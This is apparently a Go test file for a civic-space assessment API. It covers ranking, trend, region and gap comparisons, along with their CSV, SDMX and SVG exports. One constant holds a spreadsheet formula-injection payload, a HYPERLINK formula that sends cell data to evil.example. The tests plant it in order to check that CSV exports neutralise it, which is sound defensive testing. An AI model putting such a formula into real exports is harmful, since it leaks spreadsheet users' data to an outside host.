package api_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/xml"
	"net/http"
	"reflect"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/civicspace/civicspace/api"
	"github.com/civicspace/civicspace/civicspace"
	"github.com/civicspace/civicspace/civicspace/report"
	"github.com/getkin/kin-openapi/openapi3"
	"github.com/getkin/kin-openapi/openapi3filter"
	"github.com/stretchr/testify/require"
)

func init() {
	// The validator has no decoders for SDMX-CSV and SVG bodies; their
	// schemas are plain strings.
	openapi3filter.RegisterBodyDecoder(report.MediaSDMX, openapi3filter.CsvBodyDecoder)
	openapi3filter.RegisterBodyDecoder(report.MediaSVG, openapi3filter.FileBodyDecoder)
	openapi3filter.RegisterBodyDecoder("application/vnd.sdmx.structure+xml", openapi3filter.FileBodyDecoder)
}

// formulaComment is a shadow assessment's comment that a spreadsheet would
// run as a formula.
const formulaComment = `=HYPERLINK("https://evil.example/steal?d="&A1,"see source")`

// worse answers the given indicators with their worst value.
func worse(cat *civicspace.Catalog, a *civicspace.Assessment, ids ...string) {
	for _, id := range ids {
		ind, _ := cat.Indicator(id)
		better := ind.Direction != civicspace.LowerIsBetter
		ans := a.Answers[id]
		switch ind.Type {
		case civicspace.TypeBoolean:
			ans.Value = civicspace.BoolValue(!better)
		case civicspace.TypeScale:
			ans.Value = civicspace.NumberValue(float64(ind.Scale.Min))
			if !better {
				ans.Value = civicspace.NumberValue(float64(ind.Scale.Max))
			}
		case civicspace.TypePercentage:
			ans.Value = civicspace.NumberValue(0)
			if !better {
				ans.Value = civicspace.NumberValue(100)
			}
		case civicspace.TypeCount:
			ans.Value = civicspace.NumberValue(50)
		case civicspace.TypeChoice:
			w := ind.Options[0]
			for _, o := range ind.Options {
				if o.Points < w.Points {
					w = o
				}
			}
			ans.Value = civicspace.OptionValue(w.ID)
		}
		a.Answers[id] = ans
	}
}

// plainIndicators returns the first n scale and boolean indicators that
// need no evidence: answers a test can change without other checks.
func plainIndicators(t *testing.T, cat *civicspace.Catalog, n int) []string {
	t.Helper()
	var ids []string
	for _, ind := range cat.Indicators() {
		if !ind.EvidenceRequired && (ind.Type == civicspace.TypeScale || ind.Type == civicspace.TypeBoolean) {
			ids = append(ids, ind.ID)
		}
		if len(ids) == n {
			return ids
		}
	}
	t.Fatalf("the catalog has fewer than %d plain indicators", n)
	return nil
}

// publishVia stores a through the service as a published assessment
// (scored when written, as the API does).
func publishVia(t *testing.T, e *env, a *civicspace.Assessment) *civicspace.Record {
	t.Helper()
	ctx := asAdmin(context.Background())
	rec, problems, err := e.svc.CreateAssessment(ctx, a)
	require.NoError(t, err)
	require.Empty(t, problems)
	for _, action := range []civicspace.Action{civicspace.ActionSubmit, civicspace.ActionPublish} {
		rec, _, err = e.svc.Transition(ctx, rec.ID, rec.Version, action, "")
		require.NoError(t, err)
	}
	return rec
}

// comparisonData publishes NOR's 2024 and 2025 self-assessments, a shadow
// assessment of NOR for 2025 that answers worse, cites evidence where the
// government cites none and carries a formula in a comment, and KEN's
// 2025 self-assessment; it returns NOR's 2025 self-assessment.
func comparisonData(t *testing.T, e *env) (norSelf *civicspace.Record, changed []string) {
	t.Helper()
	cat := e.svc.Catalog
	changed = plainIndicators(t, cat, 4)

	nor24 := fullAssessment(cat, "NOR")
	nor24.Period = civicspace.MustPeriod("2024")
	worse(cat, nor24, changed[:2]...)
	publishVia(t, e, nor24)
	norSelf = publishVia(t, e, fullAssessment(cat, "NOR"))

	shadow := fullAssessment(cat, "NOR")
	shadow.Kind, shadow.Author, shadow.Title = civicspace.KindShadow, "Civic Watch Norway", "Shadow report 2025"
	worse(cat, shadow, changed...)
	ans := shadow.Answers[changed[0]]
	ans.Comment = formulaComment
	ans.Evidence = []civicspace.Evidence{{Title: "Court records", URL: "https://example.org/court", Date: "2025-05-02"}}
	shadow.Answers[changed[0]] = ans
	publishVia(t, e, shadow)

	ken := fullAssessment(cat, "KEN")
	worse(cat, ken, changed...)
	publishVia(t, e, ken)
	return norSelf, changed
}

// anon sends no API key: comparisons are for everyone.
var anon = bearer("")

func accept(v string) header { return header{"Accept", v} }

func csvRows(t *testing.T, body []byte) [][]string {
	t.Helper()
	require.True(t, bytes.HasSuffix(body, []byte("\r\n")), "RFC 4180 lines end in CRLF")
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	require.NoError(t, err)
	return rows
}

func col(header []string, name string) int {
	for i, h := range header {
		if h == name {
			return i
		}
	}
	panic("no column " + name)
}

// checkSVGBody checks a picture: served as SVG, with an accessible name,
// and nothing that runs.
func checkSVGBody(t *testing.T, res *response, title string) {
	t.Helper()
	require.Equal(t, http.StatusOK, res.StatusCode, "%s", res.body)
	require.Equal(t, report.MediaSVG, res.Header.Get("Content-Type"))
	body := string(res.body)
	require.True(t, strings.HasPrefix(body, "<svg "), body)
	require.Regexp(t, `<title id="[a-z]+-title">`+regexp.QuoteMeta(title), body)
	require.Contains(t, body, "<desc ")
	require.Contains(t, body, `role="img"`)
	require.NotContains(t, strings.ToLower(body), "<script")
}

func TestComparisons(t *testing.T) {
	forEachStore(t, func(t *testing.T, open storeOpener) {
		e := newEnv(t, open)
		ctx := asAdmin(context.Background())
		cat, countries, digest := e.svc.Catalog, e.svc.Countries, e.scorer.PolicyDigest()
		norSelf, changed := comparisonData(t, e)
		draft, _, err := e.svc.CreateAssessment(ctx, fullAssessment(cat, "SWE"))
		require.NoError(t, err)
		calls := e.scorer.calls.Load()

		t.Run("ranking", func(t *testing.T) {
			res := e.do("GET", "/v1/comparisons/ranking?period=2025&kind=self", nil, anon)
			require.Equal(t, http.StatusOK, res.StatusCode, "%s", res.body)
			require.Equal(t, "application/json", res.Header.Get("Content-Type"))
			require.Equal(t, "Accept", res.Header.Get("Vary"))
			var got civicspace.RankingResult
			res.decode(t, &got)
			want, err := civicspace.CompareRanking(ctx, e.store, cat, countries, digest, civicspace.RankingQuery{Period: "2025", Kind: civicspace.KindSelf})
			require.NoError(t, err)
			require.Equal(t, *want, got, "the library's ranking, as JSON")
			require.Equal(t, []string{"NOR", "KEN"}, []string{got.Rows[0].Country, got.Rows[1].Country})
			require.Equal(t, 1, *got.Rows[0].Rank)
			require.Equal(t, 2, *got.Rows[1].Rank)
			require.Equal(t, "578", got.Rows[0].M49)

			// Without kind each kind is ranked apart: NOR's shadow
			// assessment is ranked first among the shadow ones.
			res = e.do("GET", "/v1/comparisons/ranking", nil, anon)
			res.decode(t, &got)
			require.Equal(t, "2025", got.Period, "the latest period by default")
			require.Len(t, got.Rows, 3)
			require.Equal(t, civicspace.KindShadow, got.Rows[2].Kind)
			require.Equal(t, 1, *got.Rows[2].Rank)

			// The same ranking by format parameter and by Accept header.
			byParam := e.do("GET", "/v1/comparisons/ranking?period=2025&kind=self&format=csv", nil, anon)
			byAccept := e.do("GET", "/v1/comparisons/ranking?period=2025&kind=self", nil, anon, accept("text/csv"))
			for _, r := range []*response{byParam, byAccept} {
				require.Equal(t, http.StatusOK, r.StatusCode, "%s", r.body)
				require.Equal(t, "text/csv; charset=utf-8; header=present", r.Header.Get("Content-Type"))
			}
			require.Equal(t, byParam.body, byAccept.body)
			rows := csvRows(t, byParam.body)
			require.Equal(t, report.RankingCSVHeader, rows[0])
			require.Len(t, rows, 3)
			require.Equal(t, []string{"1", "NOR", "Norway"}, []string{rows[1][col(rows[0], "rank")], rows[1][col(rows[0], "country")], rows[1][col(rows[0], "name")]})

			// format wins over Accept.
			r := e.do("GET", "/v1/comparisons/ranking?format=json", nil, anon, accept("text/csv"))
			require.Equal(t, "application/json", r.Header.Get("Content-Type"))

		})

		t.Run("ranking as SDMX-CSV", func(t *testing.T) {
			res := e.do("GET", "/v1/comparisons/ranking?period=2025&kind=self", nil, anon, accept("application/vnd.sdmx.data+csv; version=2.0.0"))
			require.Equal(t, http.StatusOK, res.StatusCode, "%s", res.body)
			require.Equal(t, "application/vnd.sdmx.data+csv; version=2.0.0; charset=utf-8", res.Header.Get("Content-Type"))
			rows := csvRows(t, res.body)
			h := rows[0]
			require.Equal(t, []string{"STRUCTURE", "STRUCTURE_ID", "ACTION", "FREQ", "REF_AREA", "ASSESSMENT_KIND", "FRAMEWORK", "MEASURE", "TIME_PERIOD", "OBS_VALUE", "UNIT_MEASURE", "OBS_STATUS", "STATUS"}, h)
			first := rows[1]
			require.Equal(t, []string{"dataflow", "CIVICSPACE:DF_CIVIC_SPACE(1.0)", "I", "A", "578", "SELF", "_T", "SCORE", "2025"}, first[:col(h, "OBS_VALUE")])
			require.Len(t, rows, 1+2*3, "score, coverage and rank of each country")

			same := e.do("GET", "/v1/comparisons/ranking?period=2025&kind=self&format=sdmx", nil, anon)
			require.Equal(t, res.body, same.body)

			v1 := e.do("GET", "/v1/comparisons/ranking?period=2025&kind=self", nil, anon, accept("application/vnd.sdmx.data+csv; version=1.0.0"))
			require.Equal(t, "application/vnd.sdmx.data+csv; version=1.0.0; charset=utf-8", v1.Header.Get("Content-Type"))
			require.Equal(t, report.SDMX1Header, csvRows(t, v1.body)[0])
		})

		t.Run("ranking chart", func(t *testing.T) {
			checkSVGBody(t, e.do("GET", "/v1/comparisons/ranking?period=2025&format=svg", nil, anon), "Ranking on Civic space rating, 2025")
			checkSVGBody(t, e.do("GET", "/v1/comparisons/ranking?period=2025", nil, anon, accept("image/svg+xml")), "Ranking on ")
			fw := cat.Frameworks()[0]
			checkSVGBody(t, e.do("GET", "/v1/comparisons/ranking?framework="+fw.ID, nil, anon, accept("image/*")), "Ranking on ")
		})

		t.Run("trend", func(t *testing.T) {
			res := e.do("GET", "/v1/comparisons/trend/NOR?kind=self", nil, anon)
			require.Equal(t, http.StatusOK, res.StatusCode, "%s", res.body)
			var got civicspace.TrendResult
			res.decode(t, &got)
			want, err := civicspace.CompareTrend(ctx, e.store, cat, countries, digest, "NOR", civicspace.TrendQuery{Kind: civicspace.KindSelf})
			require.NoError(t, err)
			require.Equal(t, *want, got)
			require.Len(t, got.Series, 1)
			rating := got.Series[0].Items[0]
			require.Equal(t, civicspace.LevelRating, rating.Level)
			require.Len(t, rating.Points, 2)
			require.Nil(t, rating.Points[0].Change)
			require.NotNil(t, rating.Points[1].Change)
			require.Positive(t, *rating.Points[1].Change, "2025 answers better than 2024")

			rows := csvRows(t, e.do("GET", "/v1/comparisons/trend/NOR?kind=self&format=csv", nil, anon).body)
			require.Equal(t, report.TrendCSVHeader, rows[0])
			checkSVGBody(t, e.do("GET", "/v1/comparisons/trend/NOR", nil, anon, accept("image/svg+xml")), "Trend of Norway")

			// A country without publications has an empty trend; an
			// unknown code is a bad request.
			res = e.do("GET", "/v1/comparisons/trend/SWE", nil, anon)
			res.decode(t, &got)
			require.Empty(t, got.Series)
			e.do("GET", "/v1/comparisons/trend/ATLANTIS", nil, anon).problem(t, http.StatusBadRequest, civicspace.EINVALID)
		})

		t.Run("regions", func(t *testing.T) {
			res := e.do("GET", "/v1/comparisons/regions?kind=self", nil, anon)
			require.Equal(t, http.StatusOK, res.StatusCode, "%s", res.body)
			var got civicspace.RegionResult
			res.decode(t, &got)
			want, err := civicspace.CompareRegions(ctx, e.store, cat, countries, digest, civicspace.RegionQuery{Kind: civicspace.KindSelf})
			require.NoError(t, err)
			require.Equal(t, *want, got)
			world := got.Aggregates[0]
			require.Equal(t, civicspace.WorldM49, world.Code)
			require.Equal(t, 2, world.Count)
			require.Equal(t, "NOR", world.MaxCountry)
			require.Equal(t, "KEN", world.MinCountry)

			sdmx := e.do("GET", "/v1/comparisons/regions?kind=self&format=sdmx", nil, anon)
			rows := csvRows(t, sdmx.body)
			require.Equal(t, report.SDMXHeader, rows[0])
			require.Equal(t, "001", rows[1][col(rows[0], "REF_AREA")])
			require.Equal(t, "COUNT", rows[1][col(rows[0], "MEASURE")])

			// No chart of region aggregates.
			e.do("GET", "/v1/comparisons/regions", nil, anon, accept("image/svg+xml")).problem(t, http.StatusNotAcceptable, civicspace.EINVALID)
			e.do("GET", "/v1/comparisons/regions?format=svg", nil, anon).problem(t, http.StatusBadRequest, civicspace.EINVALID)
		})

		t.Run("gap", func(t *testing.T) {
			res := e.do("GET", "/v1/comparisons/gap/NOR/2025", nil, anon)
			require.Equal(t, http.StatusOK, res.StatusCode, "%s", res.body)
			var got civicspace.GapResult
			res.decode(t, &got)
			want, err := civicspace.CompareGap(ctx, e.store, cat, countries, digest, civicspace.GapQuery{Country: "NOR", Period: "2025"})
			require.NoError(t, err)
			require.Equal(t, *want, got)
			require.Equal(t, norSelf.ID, got.Self.AssessmentID)
			require.Equal(t, civicspace.KindShadow, got.Shadow.Kind)
			require.Equal(t, len(changed), got.Summary.Disagree)
			require.Equal(t, len(changed), got.Summary.ShadowLower)
			require.Equal(t, []string{changed[0]}, got.EvidenceGaps)
			require.Contains(t, got.Headline, "lower than the self-assessment")

			// CSV: the formula in the comment is neutralised, the negative
			// differences stay numbers.
			rows := csvRows(t, e.do("GET", "/v1/comparisons/gap/NOR/2025?format=csv", nil, anon).body)
			h := rows[0]
			require.Equal(t, report.GapCSVHeader, h)
			measures := map[string]bool{}
			for _, r := range rows[1:] {
				if r[col(h, "level")] != civicspace.LevelIndicator || r[col(h, "item_id")] != changed[0] {
					continue
				}
				require.Equal(t, norSelf.ID, r[col(h, "self_assessment_id")])
				m := r[col(h, "measure")]
				measures[m] = true
				switch m {
				case report.MeasureAnswer:
					require.Equal(t, "'"+formulaComment, r[col(h, "shadow_comment")])
				case report.MeasurePoints:
					d := r[col(h, "difference")]
					require.True(t, strings.HasPrefix(d, "-"), "a negative difference is written as a number: %q", d)
					x, err := strconv.ParseFloat(d, 64)
					require.NoError(t, err)
					require.Negative(t, x)
				case report.MeasureEvidenceCount:
					require.Equal(t, "1", r[col(h, "shadow_value")])
					require.Equal(t, "0", r[col(h, "self_value")])
				}
			}
			require.Len(t, measures, 3, "the changed indicator has a row per measure")
			for _, r := range rows[1:] {
				for i, c := range r {
					require.False(t, strings.HasPrefix(c, "="), "column %s: %q is a formula", h[i], c)
				}
			}

			sdmx := csvRows(t, e.do("GET", "/v1/comparisons/gap/NOR/2025", nil, anon, accept("application/vnd.sdmx.data+csv")).body)
			require.Equal(t, report.SDMXHeader, sdmx[0])
			require.Equal(t, []string{"SELF", "SHADOW"}, []string{sdmx[1][col(sdmx[0], "ASSESSMENT_KIND")], sdmx[2][col(sdmx[0], "ASSESSMENT_KIND")]})

			// KEN has no shadow assessment; a gap of one kind with itself
			// is a bad request.
			p := e.do("GET", "/v1/comparisons/gap/KEN/2025", nil, anon).problem(t, http.StatusNotFound, civicspace.ENOTFOUND)
			require.Contains(t, p.Detail, "no published shadow assessment of KEN for 2025")
			e.do("GET", "/v1/comparisons/gap/NOR/2025?base=shadow&against=shadow", nil, anon).problem(t, http.StatusBadRequest, civicspace.EINVALID)
			e.do("GET", "/v1/comparisons/gap/nor/2025", nil, anon).problem(t, http.StatusBadRequest, civicspace.EINVALID)
			// A date range in the path, its slash escaped.
			p = e.do("GET", "/v1/comparisons/gap/NOR/2025-01-01%2F2025-06-30", nil, anon).problem(t, http.StatusNotFound, civicspace.ENOTFOUND)
			require.Contains(t, p.Detail, "of NOR for 2025-01-01/2025-06-30")
			e.do("GET", "/v1/comparisons/gap/NOR/2025", nil, anon, accept("image/svg+xml")).problem(t, http.StatusNotAcceptable, civicspace.EINVALID)
		})

		t.Run("scorecard", func(t *testing.T) {
			path := "/v1/assessments/" + norSelf.ID + "/scorecard"
			checkSVGBody(t, e.do("GET", path, nil, anon), "Civic space scorecard: Norway, 2025")
			checkSVGBody(t, e.do("GET", path+"?version="+strconv.Itoa(norSelf.PublishedVersion), nil, anon, accept("text/html, image/*;q=0.8")), "Civic space scorecard")
			e.do("GET", path, nil, anon, accept("application/json")).problem(t, http.StatusNotAcceptable, civicspace.EINVALID)
			// Version 1 is the draft: not for the public.
			e.do("GET", path+"?version=1", nil, anon).problem(t, http.StatusNotFound, civicspace.ENOTFOUND)
			checkSVGBody(t, e.do("GET", path+"?version=1", nil), "Civic space scorecard")

			e.do("GET", "/v1/assessments/"+draft.ID+"/scorecard", nil, anon).problem(t, http.StatusNotFound, civicspace.ENOTFOUND)
			checkSVGBody(t, e.do("GET", "/v1/assessments/"+draft.ID+"/scorecard", nil), "Civic space scorecard: Sweden")
		})

		t.Run("spreadsheets: bom, file names, score CSV", func(t *testing.T) {
			res := e.do("GET", "/v1/comparisons/ranking?period=2025&kind=self&format=csv&bom=true", nil, anon)
			require.Equal(t, http.StatusOK, res.StatusCode, "%s", res.body)
			require.True(t, bytes.HasPrefix(res.body, []byte(report.BOM+"target_level,")), "the byte-order mark, then the header")
			require.Equal(t, `attachment; filename=ranking-rating-2025-self.csv`, res.Header.Get("Content-Disposition"))
			plain := e.do("GET", "/v1/comparisons/ranking?period=2025&kind=self&format=csv", nil, anon)
			require.Equal(t, plain.body, bytes.TrimPrefix(res.body, []byte(report.BOM)), "the mark is all bom adds")
			res = e.do("GET", "/v1/comparisons/ranking?period=2025&bom=true", nil, anon)
			require.False(t, bytes.HasPrefix(res.body, []byte(report.BOM)), "JSON never starts with a mark")
			require.Empty(t, res.Header.Get("Content-Disposition"), "JSON is not a download")
			res = e.do("GET", "/v1/comparisons/gap/NOR/2025?bom=true", nil, anon, accept("application/vnd.sdmx.data+csv"))
			require.True(t, bytes.HasPrefix(res.body, []byte(report.BOM+"STRUCTURE,")))
			require.Equal(t, `attachment; filename=gap-NOR-2025-self-shadow.csv`, res.Header.Get("Content-Disposition"))

			// The stored score as a tidy table, by parameter or by Accept.
			path := "/v1/assessments/" + norSelf.ID + "/score"
			for _, r := range []*response{e.do("GET", path+"?format=csv", nil, anon), e.do("GET", path, nil, anon, accept("text/csv"))} {
				require.Equal(t, http.StatusOK, r.StatusCode, "%s", r.body)
				require.True(t, strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv"), "%s %s", r.Header.Get("Content-Type"), r.body)
				rows := csvRows(t, r.body)
				require.Equal(t, report.ScoreCSVHeader, rows[0])
				require.Equal(t, []string{norSelf.ID, "rating", civicspace.ObservationOverall},
					[]string{rows[1][col(rows[0], "assessment_id")], rows[1][col(rows[0], "level")], rows[1][col(rows[0], "item_id")]})
				require.Equal(t, "attachment; filename=score-"+norSelf.ID+"-v"+strconv.Itoa(norSelf.PublishedVersion)+".csv", r.Header.Get("Content-Disposition"))
			}
			var sc api.StoredScore
			e.do("GET", path, nil, anon).decode(t, &sc)
			require.Equal(t, norSelf.ID, sc.AssessmentID, "JSON stays the default")
			e.do("GET", path, nil, anon, accept("application/xml")).problem(t, http.StatusNotAcceptable, civicspace.EINVALID)
		})

		t.Run("sdmx structure", func(t *testing.T) {
			res := e.do("GET", "/v1/sdmx/structure", nil, anon)
			require.Equal(t, http.StatusOK, res.StatusCode, "%s", res.body)
			require.Equal(t, report.MediaSDMXStructure, res.Header.Get("Content-Type"))
			var msg struct {
				Codes []struct {
					ID string `xml:"id,attr"`
				} `xml:"Structures>Codelists>Codelist>Code"`
				Dataflow struct {
					ID string `xml:"id,attr"`
				} `xml:"Structures>Dataflows>Dataflow"`
			}
			require.NoError(t, xml.Unmarshal(res.body, &msg))
			require.Equal(t, report.SDMXDataflowID, msg.Dataflow.ID)
			codes := map[string]bool{}
			for _, c := range msg.Codes {
				codes[c.ID] = true
			}
			// Every FRAMEWORK code of an SDMX-CSV ranking of a group is in
			// the published code lists.
			rows := csvRows(t, e.do("GET", "/v1/comparisons/ranking?period=2025&group=cndsi.focus-1&format=sdmx", nil, anon).body)
			require.Greater(t, len(rows), 1)
			for _, r := range rows[1:] {
				require.Equal(t, "cndsi_focus-1", r[col(rows[0], "FRAMEWORK")])
				require.True(t, codes[r[col(rows[0], "REF_AREA")]], r[col(rows[0], "REF_AREA")])
			}
			require.True(t, codes["cndsi_focus-1"])
			e.do("GET", "/v1/sdmx/structure", nil, anon, accept("text/csv")).problem(t, http.StatusNotAcceptable, civicspace.EINVALID)
		})

		t.Run("bad queries", func(t *testing.T) {
			for _, q := range []string{
				"framework=nope", "recommendation=nope", "period=last%20year", "kind=rival",
				"min_coverage=0", "min_coverage=1.5", "region=Narnia", "period_from=2025&period_to=2020", "format=xlsx",
			} {
				e.do("GET", "/v1/comparisons/ranking?"+q, nil, anon).problem(t, http.StatusBadRequest, civicspace.EINVALID)
			}
			p := e.do("GET", "/v1/comparisons/ranking", nil, anon, accept("application/xml")).problem(t, http.StatusNotAcceptable, civicspace.EINVALID)
			require.Contains(t, p.Detail, "text/csv")
		})

		require.Equal(t, calls, e.scorer.calls.Load(), "comparisons read stored scores: the policy never ran")
	})
}

// TestComparisonSchemasMatchDomainTypes checks that the comparison schemas
// of openapi.yaml have exactly the JSON members of the domain types the
// handlers encode, and require none that encoding/json may leave out.
func TestComparisonSchemasMatchDomainTypes(t *testing.T) {
	spec, err := api.LoadSpec()
	require.NoError(t, err)
	for name, v := range map[string]any{
		"RankingResult": civicspace.RankingResult{},
		"TrendResult":   civicspace.TrendResult{},
		"RegionResult":  civicspace.RegionResult{},
		"GapResult":     civicspace.GapResult{},
	} {
		t.Run(name, func(t *testing.T) {
			ref := spec.Components.Schemas[name]
			require.NotNil(t, ref, "no schema %s", name)
			matchSchema(t, name, ref.Value, reflect.TypeOf(v), map[visit]bool{})
			requireOnlyAlwaysPresent(t, name, ref.Value, reflect.TypeOf(v), map[reflect.Type]bool{})
		})
	}
}

// requireOnlyAlwaysPresent checks that a schema requires no member its
// type omits when empty.
func requireOnlyAlwaysPresent(t *testing.T, path string, s *openapi3.Schema, typ reflect.Type, seen map[reflect.Type]bool) {
	t.Helper()
	for typ.Kind() == reflect.Pointer || typ.Kind() == reflect.Slice {
		typ = typ.Elem()
		if s.Items != nil {
			s = s.Items.Value
		}
	}
	if typ.Kind() != reflect.Struct || seen[typ] || typ.Implements(marshalerType) || reflect.PointerTo(typ).Implements(marshalerType) {
		return
	}
	seen[typ] = true
	props := properties(s)
	for i := range typ.NumField() {
		f := typ.Field(i)
		name, opts, _ := strings.Cut(f.Tag.Get("json"), ",")
		if name == "" || name == "-" {
			continue
		}
		if strings.Contains(opts, "omitempty") || strings.Contains(opts, "omitzero") {
			require.NotContains(t, s.Required, name, "%s.%s is left out when empty: it cannot be required", path, name)
		} else {
			require.Contains(t, s.Required, name, "%s.%s is always present: require it", path, name)
		}
		requireOnlyAlwaysPresent(t, path+"."+name, props[name], f.Type, seen)
	}
}
